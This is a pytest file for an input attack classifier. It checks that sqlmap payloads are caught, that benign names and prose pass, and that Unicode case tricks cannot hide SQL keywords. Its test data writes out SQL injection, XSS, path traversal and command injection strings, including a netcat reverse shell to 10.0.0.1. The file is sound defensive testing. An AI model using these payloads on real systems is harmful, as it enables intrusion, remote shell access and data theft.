from __future__ import annotations

import re
import sys

import pytest

from fortresa.detection.rules import Verdict, classify
from fortresa.detection.rules.classifier import _classify_short, clear_cache
from fortresa.detection.rules.sqli import UPPERCASE_TO_WORD, match_sqli, may_match
from tests.detection.corpus import benign_inputs, sqlmap_attacks


@pytest.fixture(scope="module")
def attacks() -> list[str]:
    return list(sqlmap_attacks())


@pytest.fixture(scope="module")
def benign() -> list[str]:
    return benign_inputs()


@pytest.mark.smoke
def test_sqlmap_corpus_is_large_and_covers_every_payload_file(attacks: list[str]) -> None:
    assert len(attacks) > 10_000
    assert any("UNION ALL SELECT" in item for item in attacks)
    assert any("PG_SLEEP" in item for item in attacks)
    assert any("WAITFOR DELAY" in item for item in attacks)


@pytest.mark.smoke
def test_at_least_99_percent_of_sqlmap_payloads_are_detected_as_sqli(attacks: list[str]) -> None:
    detected = sum(1 for item in attacks if classify(item).verdict == "sqli")
    assert detected / len(attacks) >= 0.99


@pytest.mark.smoke
def test_at_most_one_in_a_thousand_benign_inputs_is_flagged(benign: list[str]) -> None:
    flagged = [item for item in benign if classify(item).is_attack]
    assert len(benign) > 10_000
    assert len(flagged) / len(benign) <= 0.001, flagged[:20]


@pytest.mark.smoke
@pytest.mark.parametrize(
    "text",
    [
        "O'Brien",
        "l'équipe de France",
        "(0546)-313411",
        "Select your partner and court; then book (max. 2 hours).",
        "50% off for juniors < 18 and seniors > 65!",
        "我们周六下午三点在二号场地打网球吗？",
    ],
)
def test_names_phones_and_prose_are_clean(text: str) -> None:
    assert classify(text).verdict == "clean"


@pytest.mark.smoke
@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("1' OR '1'='1", "sqli"),
        ("admin'--", "sqli"),
        ("1; DROP TABLE bookings", "sqli"),
        ("1 UNION SELECT password FROM accounts_user", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ('"><img src=x onerror=alert(1)>', "xss"),
        ("javascript:alert(document.cookie)", "xss"),
        ("<svg/onload=prompt(1)>", "xss"),
        ("../../../../etc/passwd", "traversal"),
        ("..\\..\\windows\\win.ini", "traversal"),
        ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "traversal"),
        ("; cat /etc/passwd", "cmdi"),
        ("127.0.0.1 && whoami", "cmdi"),
        ("$(id)", "cmdi"),
        ("`sleep 5`", "cmdi"),
        ("a|nc -e /bin/sh 10.0.0.1 4444", "cmdi"),
    ],
)
def test_each_attack_family_gets_its_verdict(text: str, verdict: str) -> None:
    assert classify(text).verdict == verdict


@pytest.mark.smoke
def test_verdict_names_the_rule_that_matched() -> None:
    verdict = classify("1 UNION ALL SELECT NULL,NULL-- -")
    assert verdict.rule == "sqli.union_select"


def test_the_sql_pre_check_passes_every_attack_the_sql_rules_match(attacks: list[str]) -> None:
    matched = [item for item in attacks if match_sqli(item)]
    assert len(matched) > 10_000
    assert all(may_match(item) for item in matched)


@pytest.mark.smoke
@pytest.mark.parametrize(
    ("text", "rule"),
    [
        # Letters that upper-case to ASCII: the tokenizer reads "ıs" as IS, "ſhutdown"
        # as SHUTDOWN.
        ("x'ıs null", "sqli.breakout_comparison"),
        ("1;ſhutdown", "sqli.stacked_query"),
        # U+0345 is no word character, but upper-cases to a Greek capital letter.
        ("abc\u0345or 1 is null", "sqli.boolean_word_comparison"),
        # A hex literal ends right before a word.
        ("0x1fsleep(5)", "sqli.attack_function"),
        ("1 anD 1 iS nUlL", "sqli.boolean_word_comparison"),
        ("DBMS_LOCK.SLEEP(5)", "sqli.attack_function"),
        ("1 ORDER BY 3--", "sqli.clause_probe"),
    ],
)
def test_words_hidden_by_case_or_neighbours_still_reach_the_sql_rules(text: str, rule: str) -> None:
    assert classify(text) == Verdict("sqli", rule)


def test_only_the_listed_characters_turn_into_word_characters_when_upper_cased() -> None:
    # The SQL pre-check searches the upper-cased text for words standing alone; that is
    # sound only if upper-casing never makes a word character out of a character that
    # ends a word, never changes whitespace, and so on for every character but these.
    word = re.compile(r"[\w$]")
    word_start = re.compile(r"[^\W\d]")
    space = re.compile(r"\s")
    found = set()
    for point in range(sys.maxunicode + 1):
        char = chr(point)
        upper = char.upper()
        if space.match(char) and upper != char:
            found.add(char)
        if not upper:
            continue
        # A character that ends a word (no word character, or a digit ending a number)
        # must not become a letter a word could start with, nor (no word character)
        # a word character a word could go on with.
        if char.isdecimal() and word_start.match(upper[-1]):
            found.add(char)
        if not word.match(char) and (word_start.match(upper[-1]) or word.match(upper[0])):
            found.add(char)
    assert found == UPPERCASE_TO_WORD


@pytest.mark.smoke
def test_letters_and_digits_alone_are_clean_and_not_remembered() -> None:
    clear_cache()
    for text in ("a" * 32, "Xy7" * 20, "2026", "Zoë", "北京"):
        assert classify(text).verdict == "clean"
    assert _classify_short.cache_info().currsize == 0
